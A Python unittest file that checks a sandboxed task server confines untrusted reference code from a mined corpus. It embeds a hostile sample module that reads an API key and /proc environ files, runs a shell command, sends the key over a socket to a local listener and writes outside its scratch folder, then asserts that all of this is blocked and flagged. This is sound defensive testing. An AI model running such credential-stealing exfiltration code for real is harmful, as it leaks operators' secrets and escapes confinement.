"""Reference code as untrusted code (issue 34 point 3): a task module from a mined corpus that runs a shell,
reads the operator's key and connects to a listener on 127.0.0.1, run by a real sandboxed task server
(trusted.Server with confine, as the worker starts them): nothing arrives at the listener, the key is not
in its environment or its /proc, no file appears outside its scratch, and the check warns with the lines."""
import json
import os
import shutil
import socket
import sys
import tempfile
import threading
import unittest

from sieve_worker.tasks import hygiene, trusted
from sieve_worker.sandbox import taskbox

KEY = "sk-planted-operator-key-5e1f"
HOSTILE = '''import os
import socket
import torch
import torch.nn as nn

seen = {}
seen["env"] = os.environ.get("OPENAI_API_KEY", "absent")
for p in ("/proc/self/environ", "/proc/%d/environ" % os.getppid()):
    try:
        with open(p, "rb") as f:
            seen[p] = f.read().decode("latin-1")
    except OSError as e:
        seen[p] = "refused %d" % e.errno
seen["system"] = os.system("echo pwned > MARKER")
try:
    s = socket.create_connection(("127.0.0.1", PORT), timeout=3)
    s.sendall(("key=" + seen["env"]).encode())
    seen["tcp"] = "connected"
except OSError as e:
    seen["tcp"] = "refused %d" % e.errno
try:
    with open("OUTSIDE", "w") as f:
        f.write("written")
    seen["write"] = "written"
except OSError as e:
    seen["write"] = "refused %d" % e.errno
raise RuntimeError("SEEN" + repr(seen))


class Model(nn.Module):
    def forward(self, x):
        return x * 2


def get_inputs():
    return [torch.randn(8)]


def get_init_inputs():
    return []
'''


class HostileTask(unittest.TestCase):
    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix="sieve-task-sandbox-")
        os.chmod(self.tmp, 0o755)
        self.tasks = os.path.join(self.tmp, "cache", "tasks")
        os.makedirs(self.tasks)
        # a folder the server's uid could write by its permissions: only landlock and the mounts keep it out
        self.outside = tempfile.mkdtemp(prefix=".outside-", dir=os.path.dirname(os.path.abspath(__file__)))
        os.chmod(self.outside, 0o777)
        self.marker = os.path.join(self.outside, "marker")
        self.listener = socket.socket()
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(4)
        self.listener.settimeout(0.5)
        self.received = []
        self.stop = False
        threading.Thread(target=self.accept, daemon=True).start()
        self.code = HOSTILE.replace("PORT", str(self.listener.getsockname()[1])) \
            .replace('"MARKER"', repr(self.marker)).replace('"OUTSIDE"', repr(os.path.join(self.outside, "w")))
        self.path = os.path.join(self.tasks, "hostile.py")
        with open(self.path, "w") as f:
            f.write(self.code)
        os.chmod(self.path, 0o644)
        os.environ["OPENAI_API_KEY"] = KEY
        spec = {"device": "cpu", "uid": taskbox.TASK_SERVER_UID, "scratch": os.path.join(self.tmp, "srv"),
                "read": [self.tasks], "write": [os.path.join(self.tmp, "srv")],
                "hide": [os.path.join(self.tmp, "cache")]}
        self.server = trusted.Server("task server", None, confine=spec)

    def accept(self):
        while not self.stop:
            try:
                c, _ = self.listener.accept()
            except OSError:
                continue
            c.settimeout(2)
            try:
                self.received.append(c.recv(4096))
            except OSError:
                self.received.append(b"(connected)")
            c.close()

    def tearDown(self):
        self.stop = True
        self.server.stop()
        self.listener.close()
        os.environ.pop("OPENAI_API_KEY", None)
        shutil.rmtree(self.tmp, ignore_errors=True)
        shutil.rmtree(self.outside, ignore_errors=True)

    def test_a_hostile_reference_reaches_nothing(self):
        req = {"op": "check", "task_key": "hostile", "reference_code": self.code, "dtype": "fp32", "seeds": [0],
               "task_path": self.path}
        ans = self.server.call(req, timeout=300)
        self.assertIn("res", ans, ans)
        text = json.dumps(ans)
        self.assertIn("SEEN", text, "the module's report did not come back")
        self.assertNotIn(KEY, text)
        self.assertEqual(self.received, [], "something reached the listener")
        self.assertFalse(os.path.exists(self.marker), "os.system ran a shell that wrote outside the scratch")
        self.assertFalse(os.path.exists(os.path.join(self.outside, "w")), "a file was written outside the scratch")
        applied = self.server.sandbox or {}
        self.assertTrue(applied.get("network_namespace"), applied)
        self.assertIn("read_rules", applied, applied)
        if os.geteuid() == 0:
            self.assertEqual(applied.get("uid"), taskbox.TASK_SERVER_UID)
        # tasks check warns, with the lines
        notes = [h for h in ans["res"]["hygiene"] if h["code"] == "TASK_REACHES_OUTSIDE"]
        lines = {h["line"] for h in notes}
        for needle in ('os.environ.get("OPENAI_API_KEY"', "os.system(", "socket.create_connection(", "open(p, \"rb\")"):
            line = next(i + 1 for i, x in enumerate(self.code.splitlines()) if needle in x)
            self.assertIn(line, lines, (needle, notes))

    def test_a_reference_may_ask_who_it_runs_as(self):
        """The server's uid has no password entry; getpass.getuser() (torch's compile caches call it at import,
        and on the H200 every meta-device size estimate failed with KeyError there) must still answer."""
        code = "import getpass\nimport torch\nimport torch.nn as nn\n\nWHO = getpass.getuser()\n\n\n" \
               "class Model(nn.Module):\n    def forward(self, x):\n        return x * 2\n\n\n" \
               "def get_inputs():\n    return [torch.randn(8)]\n\n\ndef get_init_inputs():\n    return []\n"
        path = os.path.join(self.tasks, "who.py")
        with open(path, "w") as f:
            f.write(code)
        os.chmod(path, 0o644)
        ans = self.server.call({"op": "check", "task_key": "who", "reference_code": code, "dtype": "fp32",
                                "seeds": [0], "task_path": path}, timeout=300)
        self.assertIn("res", ans, ans)
        self.assertTrue(ans["res"]["ok"], json.dumps(ans)[:600])

    def test_reach_findings_leave_an_honest_reference_alone(self):
        honest = "import torch\nimport torch.nn as nn\n\nclass Model(nn.Module):\n    def forward(self, x):\n" \
                 "        return torch.compile(x).eval()\n"
        self.assertEqual(hygiene.reach_findings(honest), [])


if __name__ == "__main__":
    sys.exit(unittest.main())
